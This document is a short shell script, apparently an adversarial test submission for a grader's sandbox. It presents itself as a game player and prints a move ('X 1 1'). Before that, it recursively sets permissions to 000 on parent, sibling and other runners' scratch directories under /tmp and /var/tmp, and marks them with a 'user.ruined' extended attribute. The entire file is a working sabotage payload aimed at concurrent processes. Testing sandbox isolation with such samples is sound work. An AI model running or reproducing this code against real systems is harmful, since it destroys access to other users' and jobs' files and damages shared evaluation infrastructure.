#!/bin/sh
# Tries to ruin whoever runs at the same time: chmod 000 on every folder it can name that is
# not its own (the scratch copies of the grader), and extended attributes on them.
for dir in /box/.. /tmp/minimax-scratch-* /tmp/minimax-scratch-*/* /var/tmp/minimax-scratch-*/* "${TMPDIR:-/tmp}"/minimax-scratch-*/* ../*; do
    [ -d "$dir" ] || continue
    case "$dir" in "$PWD"|.|..) continue ;; esac
    # Within the folder's own file system (-xdev): in a box /box/.. is its root, and the
    # system's folders bound there read-only would be walked file by file for nothing.
    find "$dir" -xdev -exec chmod 000 {} + 2>/dev/null && echo "CHMOD $dir" >&2
    python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.ruined", b"1")' "$dir" 2>/dev/null
done
echo X 1 1
